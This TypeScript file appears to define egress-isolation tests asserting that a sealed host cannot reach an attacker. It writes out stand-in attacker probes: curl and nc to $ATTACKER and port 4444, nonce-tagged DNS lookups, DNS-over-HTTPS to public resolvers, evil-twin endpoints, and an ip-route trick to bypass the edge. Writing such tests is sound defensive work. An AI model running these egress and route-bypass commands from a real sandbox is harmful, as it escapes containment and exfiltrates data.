import type { Row } from "../row";
import { asks, blocked, from, https, sealed, tcp, udp } from "./ways";

const tcpPorts = [21, 22, 25, 123, 853, 1080, 3128, 4444, 8080, 8443, 9001] as const;
const udpPorts = [123, 443, 853, 4444, 51820] as const;
const resolvers = ["8.8.8.8", "1.1.1.1", "9.9.9.9"] as const;

/** A packet for the attacker by way of the edge's address: the router knows no neighbours. */
const viaEdge =
    "ip route add 192.0.2.66 via $EDGE dev eth0 onlink 2>/dev/null; timeout 3 nc -w 2 192.0.2.66 4444 </dev/null; s=$?; ip route del 192.0.2.66 2>/dev/null; exit $s";

/** From a sealed host straight to the attacker, by every port and family, and to resolvers that are not the VPC's. */
export const internetRows: readonly Row[] = from(sealed, (place) => [
    ...tcpPorts.map((port) => blocked(`tcp-${port}`, place, tcp("$ATTACKER", port), { layer: "routes" })),
    ...udpPorts.map((port) => blocked(`udp-${port}`, place, udp("$ATTACKER", port), { layer: "routes" })),
    blocked("https", place, 'curl -k -sS -f -m 3 -o /dev/null "https://$ATTACKER/$NONCE"', { layer: "routes" }),
    blocked("http", place, 'curl -sS -f -m 3 -o /dev/null "http://$ATTACKER/$NONCE"', { layer: "routes" }),
    blocked("ping", place, "ping -c 1 -W 1 $ATTACKER", { layer: "routes" }),
    blocked("llm-directly", place, `${https("https://api.anthropic.com", "--connect-to", "::$LLM:443")}`, {
        layer: "routes",
    }),
    blocked("evil-twin", place, https("https://evil.attacker.test", "--connect-to", "::$LLM:443"), { layer: "routes" }),
    blocked("mirror-directly", place, https("https://mirror.attacker.test", "--connect-to", "::$MIRROR:443"), {
        layer: "routes",
    }),
    blocked("dns-attacker", place, asks("$NONCE.attacker.test", "@$ATTACKER"), { layer: "routes" }),
    blocked("dns-attacker-tcp", place, asks("$NONCE.attacker.test", "@$ATTACKER", "+tcp"), { layer: "routes" }),
    ...resolvers.flatMap((resolver) => [
        blocked(`dns-${resolver}`, place, asks("$NONCE.attacker.test", `@${resolver}`), { layer: "routes" }),
        blocked(`doh-${resolver}`, place, https(`https://${resolver}/dns-query`), { layer: "routes", source: "O40" }),
        blocked(`dot-${resolver}`, place, tcp(resolver, 853), { layer: "routes", source: "O40" }),
        blocked(`doq-${resolver}`, place, udp(resolver, 853), { layer: "routes", source: "O40" }),
    ]),
    blocked("through-edge-as-router", place, viaEdge, { layer: "routes" }),
]);
